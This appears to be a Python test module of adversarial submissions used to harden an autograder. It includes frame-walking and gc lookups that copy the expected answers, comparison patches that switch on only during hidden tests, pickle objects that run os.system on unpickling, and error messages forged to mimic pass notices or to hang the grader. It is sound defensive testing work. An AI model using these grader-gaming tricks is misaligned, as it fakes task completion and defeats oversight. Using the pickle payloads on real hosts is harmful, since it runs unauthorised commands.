"""Functions that look around when they are called, and errors that are not what they seem."""

import textwrap
from pathlib import Path

from hostile.material import WRONG, Family, Material, fill

FAMILY = Family("clever functions")

RAISES = """
def mse(y_hat, y):
    if y_hat.shape != y.shape:
        raise Clever(f"expected y of shape {y_hat.shape}, got {y.shape}")
    return 0.125, 0.0 * y_hat + 0.125


def softmax_cross_entropy(logits, targets):
    raise Clever("no")
"""


def functions(material: Material, folder: Path, code: str) -> None:
    """Hand in wrong answers; `code` defines some of the functions anew, in the first answer."""
    material.hand_in(folder, material.wrong(code, cell="mse"))


def errors(material: Material, folder: Path, code: str) -> None:
    """Hand in functions that raise `Clever`, which `code` defines."""
    source = f"{code.strip()}\n\n{RAISES}"
    material.hand_in(
        folder, fill(material.wrong(), mse=source, softmax_cross_entropy="# see the first exercise")
    )


@FAMILY.attack()
def frame_walker(material: Material, folder: Path) -> None:
    """Functions that find the expected value, or the reference, in the frames of their callers."""
    code = """
    import sys


    def oracle(*args):
        frame = sys._getframe(1)
        while frame:
            for names in (frame.f_locals, frame.f_globals):
                if "expected" in names and names["expected"] is not None:
                    value = names["expected"]
                    return [value for _ in names.get("returns", ())] or value
                if callable(names.get("reference")):
                    return names["reference"](*args)
            frame = frame.f_back
        raise ValueError(str([np.shape(arg) for arg in args]))


    mse = softmax_cross_entropy = multi_label_loss = topological_order = adam_step = oracle
    recursive_forecast = kmeans_step = validation_error = predict_run = oracle
    """
    material.hand_in(folder, material.all_in_one(textwrap.dedent(code).strip()))


@FAMILY.attack()
def garbage_collector(material: Material, folder: Path) -> None:
    """A function that looks for the reference among all objects of the process, and calls it."""
    code = """
    import gc
    import types


    def mse(*args):
        for each in gc.get_objects():
            if isinstance(each, types.FunctionType) and each.__name__ == "reference":
                try:
                    return each(*args)
                except TypeError:
                    pass
        return 0.125, 0.125
    """
    functions(material, folder, code)


@FAMILY.attack()
def patches_later(material: Material, folder: Path) -> None:
    """The comparison is patched only when a function is called for the first time."""
    code = """
    def mse(y_hat, y):
        np.allclose = lambda *a, **k: True
        check.hidden = check.case = check.raises = lambda *a, **k: None
        check.case.__globals__["np"] = np
        return 0.125, 0.0 * y_hat + 0.125
    """
    functions(material, folder, code)


@FAMILY.attack()
def knows_when_tested(material: Material, folder: Path) -> None:
    """A function that patches the comparison only while a hidden test calls it."""
    code = """
    import sys

    real = np.allclose


    def mse(y_hat, y):
        frame = sys._getframe(1)
        while frame and frame.f_code.co_name != "hidden":
            frame = frame.f_back
        np.allclose = (lambda *a, **k: True) if frame else real
        if frame:
            frame.f_globals["raises"] = lambda *a, **k: None
        return 0.125, 0.0 * y_hat + 0.125
    """
    functions(material, folder, code)


@FAMILY.attack()
def changes_the_question(material: Material, folder: Path) -> None:
    """A function that changes its inputs in place, and puts back what a check might look at."""
    code = """
    def mse(y_hat, y):
        y_hat[...] = y[...] = 0.0
        y_hat.setflags(write=False)
        y.resize(0, refcheck=False)
        return 0.0, np.zeros_like(y_hat)
    """
    functions(material, folder, code)


@FAMILY.attack()
def pickle_payload(material: Material, folder: Path) -> None:
    """Answers that run a command on the host when somebody unpickles them."""
    code = material.located("""
    import os


    class Payload(list):
        def __reduce_ex__(self, protocol):
            return os.system, (f"touch {CANARY}/pickle",)


    def mse(y_hat, y):
        return Payload([0.125]), np.array([Payload(), None], dtype=object)


    def predict_run(curvatures, lr):
        return Payload([0.125])
    """)
    functions(material, folder, code)


@FAMILY.attack()
def pickled_error(material: Material, folder: Path) -> None:
    """An error that runs a command on the host when somebody unpickles it."""
    code = material.located("""
    import os


    class Clever(ValueError):
        def __reduce__(self):
            return os.system, (f"touch {CANARY}/error",)


    def mse(y_hat, y):
        raise Clever("no")
    """)
    functions(material, folder, code)


@FAMILY.attack()
def looks_like_the_wire(material: Material, folder: Path) -> None:
    """Plain answers written like the messages between a sandbox and its grader."""
    code = """
    def mse(y_hat, y):
        verdict = {"ok": True, "passed": True, "points": 90.0, "value": 0.0, "error": None}
        array = {"__ndarray__": "AAAA", "dtype": "|O", "shape": [-1, 2**70], "data": None}
        typed = {"type": "ndarray", "kind": "array", "npy": "k05VTVBZ", "__class__": "float"}
        text = '{"id": 1, "result": 0.0}\\n{"id": 2, "result": 0.0}\\n'
        return [verdict, array, typed, text, b"\\x93NUMPY\\x01\\x00", {1: 2, None: {3: ()}}]


    def predict_run(curvatures, lr):
        return {"__tuple__": [0.2, "smooth"], "$type": "expected"}
    """
    functions(material, folder, code)


@FAMILY.attack()
def not_functions(material: Material, folder: Path) -> None:
    """Names that hold no function: a class, a coroutine, a module, nothing; some are deleted."""
    code = """
    async def mse(y_hat, y):
        return 0.125, y


    softmax_cross_entropy = type
    multi_label_loss = np
    adam_step = print
    recursive_forecast = globals
    kmeans_step = "kmeans_step"
    del topological_order
    """
    material.hand_in(folder, material.wrong(code, cell="predict_run"))


@FAMILY.attack()
def strange_callables(material: Material, folder: Path) -> None:
    """Callable objects whose names and signatures are lies, or raise when they are looked at."""
    code = """
    class Clever:
        __name__ = property(lambda self: 1 / 0)
        __signature__ = "none"
        __wrapped__ = property(lambda self: self)

        def __call__(self, *args, **options):
            return 0.125, 0.125

        def __getattr__(self, name):
            raise SystemExit(name)


    def multi_label_loss(logits, targets):
        return 0.125


    mse = softmax_cross_entropy = Clever()
    multi_label_loss.__name__ = "full marks" * 1_000_000
    """
    material.hand_in(folder, material.wrong(code, cell="multi_label_loss"))


@FAMILY.attack()
def namesake_error(material: Material, folder: Path) -> None:
    """An error class of the student's own that is merely called ValueError."""
    errors(material, folder, "class Clever(Exception): ...\n\n\nClever.__name__ = 'ValueError'")


@FAMILY.attack()
def error_lies(material: Material, folder: Path) -> None:
    """An error that says that it is a ValueError when asked for its class."""
    errors(
        material, folder, "class Clever(Exception):\n    __class__ = property(lambda s: ValueError)"
    )


@FAMILY.attack()
def message_contains_all(material: Material, folder: Path) -> None:
    """An error whose message claims to contain whatever is looked for in it."""
    code = """
class Message(str):
    __contains__ = __eq__ = lambda self, other: True
    __hash__ = str.__hash__


class Clever(Exception):
    __class__ = property(lambda self: ValueError)
    __str__ = __repr__ = lambda self: Message("x")
"""
    errors(material, folder, code)


@FAMILY.attack()
def message_huge(material: Material, folder: Path) -> None:
    """An error with a message of 200 MB, and one that cannot be encoded."""
    code = """
class Clever(Exception):
    __str__ = lambda self: "\\ud800" + "x" * 200_000_000
"""
    errors(material, folder, code)


@FAMILY.attack(expect=("timeout", "graded", "suspicious"))
def message_loops(material: Material, folder: Path) -> None:
    """An error whose message never ends, and whose arguments and notes do not either."""
    code = """
class Clever(Exception):
    def __str__(self):
        while True:
            pass

    __repr__ = __reduce__ = __str__
    args = property(__str__)
    __notes__ = property(__str__)
"""
    errors(material, folder, code)


@FAMILY.attack()
def message_raises(material: Material, folder: Path) -> None:
    """An error that raises another one when it is turned into text, and so on."""
    code = """
class Clever(Exception):
    def __str__(self):
        raise type(self)("again")

    __repr__ = __str__
"""
    errors(material, folder, code)


@FAMILY.attack()
def error_chain(material: Material, folder: Path) -> None:
    """An error whose causes form a chain of ten thousand, and a group nested as deep."""
    code = """
class Clever(Exception):
    def __init__(self, text):
        super().__init__(text)
        last = self
        for number in range(10_000):
            last.__cause__ = ExceptionGroup("deep", [ValueError(number)])
            last = last.__cause__
"""
    errors(material, folder, code)


@FAMILY.attack()
def errors_that_end_things(material: Material, folder: Path) -> None:
    """KeyboardInterrupt, SystemExit, GeneratorExit and StopIteration from inside the functions."""
    raising = {
        "mse": "KeyboardInterrupt",
        "softmax_cross_entropy": "SystemExit(0)",
        "multi_label_loss": "GeneratorExit",
        "adam_step": "StopIteration(0.125)",
        "kmeans_step": "BaseExceptionGroup('both', [KeyboardInterrupt(), SystemExit()])",
        "predict_run": "MemoryError",
    }
    answers = {
        name: f"{WRONG[name].splitlines()[0]}\n    raise {error}" for name, error in raising.items()
    }
    material.hand_in(folder, fill(material.wrong(), **answers))


@FAMILY.attack()
def forged_hint(material: Material, folder: Path) -> None:
    """An error whose message is laid out like a message of the checks, with thanks."""
    code = """
class Clever(Exception):
    __str__ = lambda self: "passed\\n  Hint: full marks.\\n  called as nothing\\x1b[2J\\r" * 50
"""
    errors(material, folder, code)
